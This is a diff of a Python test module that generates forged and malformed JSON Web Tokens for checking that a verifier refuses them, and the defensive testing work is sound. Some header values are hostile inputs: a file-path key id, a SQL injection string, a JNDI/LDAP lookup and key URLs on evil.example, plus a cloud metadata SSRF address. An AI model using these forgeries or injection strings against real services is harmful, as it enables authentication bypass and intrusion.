@@ -1,53 +1,43 @@
-"""Tokens that nobody may take: what RFC 8725 warns of, what lenient decoders have let through, and what time forbids.
+"""Tokens that no service may accept, by what is wrong with each.
 
-All that can be is signed by the verifier's own key, so that nothing but the fault itself speaks against it.
+Wherever it is possible the verifier's own key signs them, so that only the fault itself can be the reason of a refusal.
 """
 
+import hmac
 import itertools
 import json
 import time
-from collections.abc import Callable, Mapping
+from collections.abc import Iterator, Mapping
 from typing import Any, Final
 
-from shared.auth.jws import encoded
-from tests.shared.auth import hostile_keys
-from tests.shared.auth.forging import Forge, as_bytes, decoded
-from tests.shared.auth.hostile_keys import Named
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa, utils
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 
-_ENDLESS: Final = [b"NaN", b"Infinity", b"-Infinity", b"1e400", b"9" * 400]
-_NO_NUMBERS: Final[list[Any]] = [None, True, False, "", "1", [], [1], {}, {"a": 1}, 1.5]
-_NO_TEXTS: Final[list[Any]] = [None, True, 0, 1, 1.5, [], {}, {"a": "b"}]
-_NO_IDS: Final = ["", " ", "a b", "alice ", "alice\n", "\x00", "\x7f", "älice", "\ud800", "a" * 129]
+from shared.auth.jws import encoded
+from tests.shared.auth.forging import Forge, Key, Sign, as_bytes, decoded
+
+type Named = Iterator[tuple[str, str]]
+
+_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+_NOT_NUMBERS: Final[list[Any]] = [None, True, False, "", "1", [], [1], {}, {"a": 1}, 1.5]
+_NOT_TEXTS: Final[list[Any]] = [None, True, 0, 1, 1.5, [], {}, {"a": "b"}, ""]
+_NOT_IDS: Final = [" ", "a b", "alice\n", "\x00", "\x7f", "älice", "\ud800", "a" * 129]
+_NOT_FINITE: Final = [b"NaN", b"Infinity", b"-Infinity", b"1e400", b"9" * 400]
 
 
 def hostile(forge: Forge) -> dict[str, str]:
-    """All of them, by what is wrong with each."""
-    makers: tuple[Callable[[Forge], Named], ...] = (
-        hostile_keys.algorithms,
-        hostile_keys.secrets,
-        hostile_keys.other_keys,
-        hostile_keys.key_ids,
-        hostile_keys.header_members,
-        _duplicates,
-        _times,
-        _claims,
-        _payloads,
-        hostile_keys.signatures,
-        _forms,
-        _spellings,
-        _cut,
-        _flipped,
-    )
+    """All of them."""
     made: dict[str, str] = {}
-    for maker in makers:
-        for name, token in maker(forge):
-            assert name not in made, name
-            made[name] = token
+    for maker in (_headers, _secrets, _foreign_keys, _signatures, _duplicates, _times, _claims):
+        made |= dict(maker(forge))
+    for maker in (_payloads, _forms, _spellings, _damaged):
+        made |= dict(maker(forge))
     return made
 
 
 def surrounded(forge: Forge) -> dict[str, str]:
-    """A good token with white space round it, which HTTP takes off before anybody sees it."""
+    """A good token between white space, which HTTP removes before a service reads it."""
     good = forge.token()
     return {
         f"{space!r} {place}": text
@@ -56,105 +46,191 @@ def surrounded(forge: Forge) -> dict[str, str]:
     }
 
 
+def _headers(forge: Forge) -> Named:
+    """Other algorithms, types and key ids, and members from which a library may take a key or an order."""
+    foreign = Key()
+    jwk = dict(foreign.public.jwk)
+    own_id = forge.key.kid
+    values: dict[str, list[Any]] = {
+        "alg": [
+            *("none", "None", "nOnE", "none ", "", "es256", "ES256 ", "ES384", "ES256K", "RS256"),
+            *("PS256", "EdDSA", "HS256", "dir", "A128KW", None, 0, True, [], ["ES256"], {}, ...),
+        ],
+        "typ": ["JWT", "at+JWT", "application/at+jwt", "at+jwt ", "", "id+jwt", None, 1, [], ...],
+        "kid": [
+            *("", " ", "x", "null", "*", "\x00", "ключ", "\ud83d", "a" * 2000, "../../dev/null"),
+            *("file:///etc/passwd", "https://evil.example/key", "alias/aws/sns", "' OR '1'='1"),
+            *("${jndi:ldap://evil.example}", None, 0, 1.5, True, [], {}, [own_id], ...),
+            *(own_id.lower(), f"{own_id}=", own_id[:-1], f" {own_id}"),
+        ],
+        "jwk": [jwk],
+        "jku": ["https://evil.example/jwks.json"],
+        "x5u": ["https://evil.example/chain.pem"],
+        "x5c": [["AAAA"]],
+        "x5t": ["AAAA"],
+        "crit": [["exp"], ["b64"]],
+        "b64": [False],
+        "zip": ["DEF"],
+        "enc": ["A128GCM"],
+        "cty": ["JWT"],
+        "p2c": [2**31],
+        "url": ["http://169.254.169.254/latest/meta-data/"],
+        "KID": [own_id],
+        "": ["x"],
+    }
+    for name, wrong in [(name, wrong) for name, all_wrong in values.items() for wrong in all_wrong]:
+        header = forge.header(**{name: wrong})
+        signed = forge.token(header=header)
+        yield f"{name!r} is {wrong!a}", signed
+        yield f"{name!r} is {wrong!a}, no signature", f"{signed.rpartition('.')[0]}."
+        if "kid" in header and name != "kid":
+            header["kid"] = foreign.public.kid
+        yield f"{name!r} is {wrong!a}, foreign", forge.token(header=header, sign=foreign.sign)
+
+
+def _secrets(forge: Forge) -> Named:
+    """The public key, in every published form, as the secret of an HMAC."""
+    key, jwk = forge.key.key, dict(forge.key.jwk)
+    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+    forms = {
+        "PEM": pem,
+        "PEM without its last line break": pem.strip(),
+        "DER": key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
+        "JWK": as_bytes(jwk),
+        "JWK set": as_bytes({"keys": [jwk]}),
+        "x": decoded(jwk["x"]),
+        "point": key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
+        "compressed point": key.public_bytes(Encoding.X962, PublicFormat.CompressedPoint),
+        "key id": forge.key.kid.encode(),
+        "nothing": b"",
+    }
+    for (form, secret), bits in itertools.product(forms.items(), (256, 384, 512)):
+        sign = _hmac(secret, f"sha{bits}")
+        yield f"HS{bits} with {form}", forge.token(header=forge.header(alg=f"HS{bits}"), sign=sign)
+        yield f"ES256 by HMAC {bits} with {form}", forge.token(sign=sign)
+
+
+def _hmac(secret: bytes, digest: str) -> Sign:
+    return lambda message: hmac.digest(secret, message, digest)
+
+
+def _foreign_keys(forge: Forge) -> Named:
+    foreign, wide, edwards = Key(), Key(ec.SECP384R1()), ed25519.Ed25519PrivateKey.generate()
+    modulus = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    signers: dict[str, tuple[str, Sign]] = {
+        "a foreign key": ("ES256", foreign.sign),
+        "P-384": ("ES384", wide.sign),
+        "P-384 cut to size": ("ES256", lambda message: wide.sign(message)[:64]),
+        "secp256k1": ("ES256K", Key(ec.SECP256K1()).sign),
+        "RSA": ("RS256", lambda m: modulus.sign(m, padding.PKCS1v15(), hashes.SHA256())),
+        "Ed25519": ("EdDSA", edwards.sign),
+    }
+    for name, (alg, sign) in signers.items():
+        for called, kid in itertools.product((alg, "ES256"), (forge.key.kid, foreign.public.kid)):
+            header = forge.header(alg=called, kid=kid)
+            yield f"{name} as {called} under {kid}", forge.token(header=header, sign=sign)
+
+
+def _signatures(forge: Forge) -> Named:
+    message = forge.token().rpartition(".")[0]
+    right = forge.sign(message.encode())
+    r, s = (int.from_bytes(right[half]) for half in (slice(32), slice(32, None)))
+    bounds = (0, 1, _ORDER, _ORDER - 1, _ORDER + 1, 2**256 - 1)
+    wrong = {
+        f"r = {a:x}, s = {b:x}": a.to_bytes(32, "big") + b.to_bytes(32, "big")
+        for a, b in itertools.product(bounds, repeat=2)
+    } | {
+        "r and 0": right[:32] + bytes(32),
+        "0 and s": bytes(32) + right[32:],
+        "s and r": right[32:] + right[:32],
+        "little-endian": right[:32][::-1] + right[32:][::-1],
+        "DER": utils.encode_dss_signature(r, s),
+        "a byte too many": right + b"\x00",
+        "a zero in front": b"\x00" + right,
+        "a byte too few": right[:-1],
+        "of other claims": forge.sign(b"other"),
+        "of the claims only": forge.sign(message.partition(".")[2].encode()),
+    }
+    for name, signature in wrong.items():
+        yield f"signature: {name}", f"{message}.{encoded(signature)}"
+
+
 def _duplicates(forge: Forge) -> Named:
-    """Two members of one name: a lenient reader takes the last, another the first."""
-    header, claims = forge.header(), forge.claims()
-    other = {"role": "admin", "sub": "bob", "exp": claims["exp"] + 99, "alg": "none", "typ": "JWT"}
-    for part, whole in (("header", header), ("claims", claims)):
-        for name, value in whole.items():
-            for how, twice in (
-                ("good twice", _twice(whole, name, value, value)),
-                ("good first", _twice(whole, name, value, other.get(name, "x"))),
-                ("good last", _twice(whole, name, other.get(name, "x"), value)),
-                ("escaped", _twice(whole, name, value, value, escaped=True)),
+    """Two members of one name: one reader takes the last, another the first."""
+    other = {"role": "admin", "sub": "bob", "alg": "none", "typ": "JWT"}
+    for is_header, good in ((True, forge.header()), (False, forge.claims())):
+        for name, value in good.items():
+            for first, second in (
+                (value, value),
+                (value, other.get(name)),
+                (other.get(name), value),
             ):
-                parts = (claims, twice) if part == "header" else (twice, header)
-                yield f"{name!r} twice in the {part}, {how}", forge.token(*parts)
+                for escaped in (False, True):
+                    twice = _twice(good, name, first, second, escaped=escaped)
+                    parts = (None, twice) if is_header else (twice, None)
+                    yield f"{name!r} twice: {first}, {second}, {escaped}", forge.token(*parts)
 
 
 def _twice(
-    whole: Mapping[str, Any], name: str, first: object, second: object, *, escaped: bool = False
+    good: Mapping[str, Any], name: str, first: object, second: object, *, escaped: bool
 ) -> bytes:
     again = f"\\u{ord(name[0]):04x}{name[1:]}" if escaped else name
-    rest = "".join(f",{json.dumps(n)}:{json.dumps(v)}" for n, v in whole.items() if n != name)
+    rest = "".join(f",{json.dumps(n)}:{json.dumps(v)}" for n, v in good.items() if n != name)
     return f'{{"{name}":{json.dumps(first)}{rest},"{again}":{json.dumps(second)}}}'.encode()
 
 
 def _times(forge: Forge) -> Named:
     now = int(time.time())
     moments: dict[str, list[Any]] = {
-        "exp": [now, now - 1, now - 900, 0, -1, -now, now + 902, now * 1000, 2**31, 2**63, 10**300],
+        "exp": [now, now - 1, now - 900, 0, -1, now + 902, now * 1000, 2**63, 10**300],
         "iat": [now + 60, now + 900, now * 1000, 2**63, 0, -1, now - 2],
         "nbf": [now + 60, now + 901, now * 1000, 2**63],
     }
     for name, values in moments.items():
-        for value in values:
-            yield f"{name} {str(value)[:20]}", forge.token(forge.claims(**{name: value}))
-        for wrong in (*_NO_NUMBERS, str(now + 900), float(now + 900), [now + 900]):
-            said = forge.claims(**{name: wrong})
-            yield f"{name} of another type: {wrong!r}", forge.token(said)
-        for endless in _ENDLESS:
-            said = forge.claims(**{name: 123454321})
-            raw = as_bytes(said).replace(b"123454321", endless)
-            yield f"{name} {endless[:9].decode()}", forge.token(raw)
-    for ends in (901, 3600, 6 * 3600, 10**9):
-        yield f"a life of {ends} s", forge.token(forge.claims(exp=now + ends, iat=now))
+        for value in (*values, *_NOT_NUMBERS, str(now + 900), float(now + 900), [now + 900]):
+            yield f"{name} is {str(value)[:20]!r}", forge.token(forge.claims(**{name: value}))
+        for infinite in _NOT_FINITE:
+            raw = as_bytes(forge.claims(**{name: 123454321})).replace(b"123454321", infinite)
+            yield f"{name} is {infinite[:9].decode()}", forge.token(raw)
+    for seconds in (901, 3600, 10**9):
+        yield f"a life of {seconds} s", forge.token(forge.claims(exp=now + seconds, iat=now))
 
 
 def _claims(forge: Forge) -> Named:
+    values: dict[str, list[Any]] = {
+        "iss": ["https://evil.example", f"{forge.issuer}/", forge.issuer.upper()],
+        "aud": ["elsewhere", "Bodega", "bodega ", "bodega,elsewhere", ["bodega", "x"], "*"],
+        "sub": [*_NOT_IDS],
+        "jti": [*_NOT_IDS],
+        "role": ["owner", "Admin", "admin ", "customer,admin", ["customer", "admin"], "*"],
+    }
+    for name, wrong in values.items():
+        good = forge.claims()[name]
+        for value in (*wrong, *_NOT_TEXTS, [good], {good: good}):
+            yield f"{name} is {value!a}", forge.token(forge.claims(**{name: value}))
     for name in forge.claims():
         yield f"without {name}", forge.token(forge.claims(**{name: ...}))
-    for name in ("iss", "aud", "sub", "jti", "role"):
-        good = forge.claims()[name]
-        for wrong in (*_NO_TEXTS, [good], {good: good}, ""):
-            yield f"{name} of another type: {wrong!r}", forge.token(forge.claims(**{name: wrong}))
-    for name, wrong in itertools.product(("sub", "jti"), _NO_IDS):
-        if wrong:
-            yield f"{name} {wrong[:9]!a}", forge.token(forge.claims(**{name: wrong}))
-    others: dict[str, list[Any]] = {
-        "iss": [
-            "https://evil.example",
-            forge.issuer + "/",
-            forge.issuer.upper(),
-            f" {forge.issuer}",
-        ],
-        "aud": ["elsewhere", "Bodega", "bodega ", "bode", "bodega,elsewhere", ["bodega", "x"], "*"],
-        "role": ["owner", "Admin", "admin ", "customer,admin", ["customer", "admin"], "root", "*"],
-    }
-    for name, values in others.items():
-        for value in values:
-            yield f"{name} {value!r}", forge.token(forge.claims(**{name: value}))
-    for extra in ({"a": 1}, [1], None, True, 1.5):
-        yield f"a further claim that is {extra!r}", forge.token(forge.claims(further=extra))
+    for further in ({"a": 1}, [1], None, True, 1.5):
+        yield f"a further claim is {further!r}", forge.token(forge.claims(further=further))
 
 
 def _payloads(forge: Forge) -> Named:
     good, subject = as_bytes(forge.claims()), forge.subject.encode()
     payloads = {
-        "no object: list": b"[]",
-        "no object: text": b'"x"',
-        "no object: number": b"1",
-        "no object: null": b"null",
-        "no object: true": b"true",
-        "empty": b"{}",
-        "no JSON": b"x",
-        "NUL": b"\x00",
+        **{text: text.encode() for text in ("[]", '"x"', "1", "null", "true", "{}", "x", "\x00")},
         "another token": forge.token().encode(),
-        "another token in JSON": json.dumps(forge.token()).encode(),
         "single quotes": good.replace(b'"', b"'"),
         "a comma too many": good[:-1] + b",}",
         "a comment": good + b"//",
-        "something behind": good + good,
+        "two objects": good + good,
         "cut": good[:-1],
         "byte order mark": b"\xef\xbb\xbf" + good,
         "UTF-16": good.decode().encode("utf-16"),
-        "UTF-32": good.decode().encode("utf-32"),
         "no UTF-8": good.replace(subject, b"al\xffce"),
         "overlong UTF-8": good.replace(subject, b"al\xc0\xafce"),
         "a line break in a text": good.replace(subject, b"al\nice"),
-        "nested deep": b'{"a":' + b"[" * 1400 + b"]" * 1400 + b"}",
-        "nested deeper": b"[" * 2800,
-        "objects nested deep": b'{"a":' * 560,
+        "deep": b'{"a":' + b"[" * 1400 + b"]" * 1400 + b"}",
+        "deeper": b"[" * 2800,
     }
     for name, payload in payloads.items():
         yield f"claims: {name}", forge.token(payload)
@@ -164,88 +240,59 @@ def _payloads(forge: Forge) -> Named:
 def _forms(forge: Forge) -> Named:
     good = forge.token()
     head, body, signature = good.split(".")
-    flat = {"protected": head, "payload": body, "signature": signature}
-    general = {"payload": body, "signatures": [{"protected": head, "signature": signature}]}
-    forms = {
+    admin = encoded(as_bytes(forge.claims(role="admin")))
+    yield from {
         "one part": head,
         "two parts": f"{head}.{body}",
         "four parts": f"{good}.{signature}",
-        "five parts, as a JWE has": f"{good}.{body}.{signature}",
         "a JWE": ".".join([encoded(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", body, signature]),
-        "flattened JSON": json.dumps(flat),
-        "general JSON": json.dumps(general),
+        "JSON": json.dumps({"protected": head, "payload": body, "signature": signature}),
         "detached claims": f"{head}..{signature}",
         "no header": f".{body}.{signature}",
         "dots": "...",
-        "two dots": "..",
-        "x": "x",
-        "a token twice": good + good,
         "two tokens": f"{good},{good}",
         "quoted": f'"{good}"',
         "with its scheme": f"Bearer {good}",
-        "another's claims": f"{head}.{encoded(as_bytes(forge.claims(role='admin')))}.{signature}",
-        "reversed": good[::-1],
+        "other claims": f"{head}.{admin}.{signature}",
         "upper case": good.upper(),
-        "lower case": good.lower(),
         "escaped dots": good.replace(".", "%2E"),
-    }
-    yield from forms.items()
-    for size in (4097, 8192, 65536, 1_000_000):
+        "a long header": forge.token(header=forge.header(pad="x" * 4096)),
+    }.items()
+    for size in (4097, 65536, 1_000_000):
         yield f"{size} characters", "A" * size
-        padded = forge.claims(pad="x" * size)
-        yield f"claims of {size} characters and more", forge.token(padded)
-    long = forge.header(pad="x" * 4096)
-    yield "a header of 4,096 characters and more", forge.token(header=long)
+        yield f"claims of {size} characters", forge.token(forge.claims(pad="x" * size))
 
 
 def _spellings(forge: Forge) -> Named:
-    """The same bytes in letters that a lenient decoder takes for them, signed in that spelling where that is possible."""
-    good = _with_all_letters(forge)
+    """The same bytes in letters that a lenient decoder accepts, signed in that spelling where that is possible."""
+    good = forge.token(forge.claims(jti="~~~???"))
+    while not {*"-_"} & {*good.rpartition(".")[2]}:  # letters that the standard alphabet has not
+        good = forge.token(forge.claims(jti="~~~???"))
     parts = dict(zip(("header", "claims", "signature"), good.split("."), strict=True))
     for place, text in parts.items():
-        other_bits = text[:-1] + chr(ord(text[-1]) + 1)
-        spelled = {
-            "bits that no byte needs": other_bits if len(text) % 4 else f"{text}A",
+        spellings = {
+            "spare bits": text[:-1] + chr(ord(text[-1]) + 1) if len(text) % 4 else f"{text}A",
             "padding": text + "=" * (-len(text) % 4 or 4),
             "the standard alphabet": text.replace("-", "+").replace("_", "/"),
-            **{
-                f"{skipped!r} inside": text[:9] + skipped + text[9:]
-                for skipped in ("=", "!", " ", "\n", "\t", "\x00", "é", "\u200b", "~")
-            },
-        }
-        for how, other in spelled.items():
-            changed = {**parts, place: other}
-            whole = ".".join(changed.values())
-            if whole == good:
-                continue
-            yield f"{how} in the {place}", whole
-            if place != "signature":
-                message = f"{changed['header']}.{changed['claims']}"
-                yield f"{how} in the {place}, signed so", forge.signed(message)
+        } | {f"{c!r} inside": text[:9] + c + text[9:] for c in "=! \n\t\x00é\u200b~"}
+        for how, spelled in spellings.items():
+            changed = {**parts, place: spelled}
+            if spelled != text:
+                yield f"{how} in the {place}", ".".join(changed.values())
+                signed = forge.signed(f"{changed['header']}.{changed['claims']}")
+                if place != "signature":
+                    yield f"{how} in the {place}, signed so", signed
 
 
-def _with_all_letters(forge: Forge) -> str:
-    """A good token in which every part has a letter that the standard alphabet spells otherwise, and bits to spare."""
-    while True:
-        # Texts that base64url spells with "-" and "_".
-        token = forge.token(forge.claims(jti="~~~???"), forge.header())
-        if {*"-_"} & {*token.rpartition(".")[2]}:
-            return token
-
-
-def _cut(forge: Forge) -> Named:
+def _damaged(forge: Forge) -> Named:
+    """Cut after each character, and one bit of each byte flipped."""
     good = forge.token()
     for length in range(len(good)):
         yield f"the first {length} characters", good[:length]
-
-
-def _flipped(forge: Forge) -> Named:
-    """One bit of each byte."""
-    parts = forge.token().split(".")
+    parts = good.split(".")
     for place, part in enumerate(parts):
-        whole = decoded(part)
-        for number in range(len(whole)):
-            flipped = bytearray(whole)
+        for number in range(len(decoded(part))):
+            flipped = bytearray(decoded(part))
             flipped[number] ^= 1 << number % 8
             changed = [*parts[:place], encoded(bytes(flipped)), *parts[place + 1 :]]
             yield f"a bit of byte {number} of part {place} flipped", ".".join(changed)
